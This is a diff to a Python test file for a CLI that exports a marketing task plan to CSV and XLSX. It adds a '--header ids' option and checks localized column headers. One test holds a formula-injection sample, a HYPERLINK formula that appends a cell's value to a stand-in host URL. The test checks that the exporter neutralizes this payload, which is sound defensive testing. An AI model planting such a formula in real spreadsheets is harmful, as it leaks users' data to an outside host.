@@ -190,7 +190,7 @@ def read_csv(path: Path) -> list[dict[str, str]]:
 
 def test_csv_rows_match_the_plan(capsys, tmp_path):
     out = tmp_path / "coffee.csv"
-    export_ok(capsys, COFFEE, "-o", out)  # format from the suffix
+    export_ok(capsys, COFFEE, "-o", out, "--header", "ids")  # format from the suffix
     rows = read_csv(out)
     plan = plan_for(COFFEE)
     assert list(rows[0]) == TASK_FIELDS
@@ -216,13 +216,13 @@ def test_a_message_never_runs_as_a_formula_in_csv_or_xlsx(capsys, tmp_path):
     evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
     profile = write_profile(tmp_path, offers={"welcome_gift": evil})
     common = [profile, "--templates", tmp_path / "tpl"]
-    export_ok(capsys, *common, "-o", tmp_path / "x.csv")
+    export_ok(capsys, *common, "-o", tmp_path / "x.csv", "--header", "ids")
     rows = read_csv(tmp_path / "x.csv")
     hits = [r for r in rows if r["template"] == "moments_seed"]
     assert hits and all(r["message"] == "'" + evil + " 今日推荐" for r in hits)
     assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
 
-    export_ok(capsys, *common, "-o", tmp_path / "x.xlsx")
+    export_ok(capsys, *common, "-o", tmp_path / "x.xlsx", "--header", "ids")
     ws = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]
     header = [c.value for c in ws[1]]
     col = header.index("message") + 1
@@ -235,6 +235,10 @@ def test_a_message_never_runs_as_a_formula_in_csv_or_xlsx(capsys, tmp_path):
 # ---- XLSX -----------------------------------------------------------------------------
 
 def test_xlsx_calendar_and_summary_read_back_with_openpyxl(capsys, tmp_path):
+    """Changed on purpose (issue 12 item 4): the header row is in the plan's language and
+    a week column follows the date; `--header ids` gives the contract's field names."""
+    from sidomain_cli.exporters.table import HEADERS
+
     out = tmp_path / "coffee.xlsx"
     export_ok(capsys, COFFEE, "-f", "xlsx", "-o", out)
     plan = plan_for(COFFEE)
@@ -243,17 +247,20 @@ def test_xlsx_calendar_and_summary_read_back_with_openpyxl(capsys, tmp_path):
     ws = wb["SOP日历"]
     assert ws.freeze_panes == "A2"
     assert ws.auto_filter.ref
+    ids = TASK_FIELDS[:2] + ["week"] + TASK_FIELDS[2:]
     header = [c.value for c in ws[1]]
-    assert header == TASK_FIELDS
+    assert header == [HEADERS["zh-CN"][k] for k in ids]
+    assert header[:4] == ["天", "日期", "周次", "时间"] and "话术" in header
     rows = list(ws.iter_rows(min_row=2, values_only=True))
     assert len(rows) == len(plan.calendar)
     for row, task in zip(rows, plan.calendar):
-        got = dict(zip(header, row))
+        got = dict(zip(ids, row))
         assert got["date"] == dt.datetime.fromisoformat(task.date)  # a real Excel date
+        assert got["week"] == (task.day - 1) // 7 + 1
         for k, v in task.as_dict().items():
             if k != "date":
                 assert got[k] == v, k
-    msg_col = openpyxl.utils.get_column_letter(header.index("message") + 1)
+    msg_col = openpyxl.utils.get_column_letter(ids.index("message") + 1)
     assert ws.column_dimensions[msg_col].width >= 40
     assert ws[f"{msg_col}2"].alignment.wrap_text
     summary = [[c for c in r if c is not None] for r in wb["概要"].iter_rows(values_only=True)]
@@ -265,6 +272,10 @@ def test_xlsx_calendar_and_summary_read_back_with_openpyxl(capsys, tmp_path):
                 share.disturbance] in summary
     for k in plan.kpis:
         assert k["name"] in flat and k["label"] in flat
+
+    ids_out = tmp_path / "ids.xlsx"
+    export_ok(capsys, COFFEE, "-f", "xlsx", "-o", ids_out, "--header", "ids")
+    assert [c.value for c in openpyxl.load_workbook(ids_out).worksheets[0][1]] == ids
 
 
 # ---- JSON / JSONL ---------------------------------------------------------------------
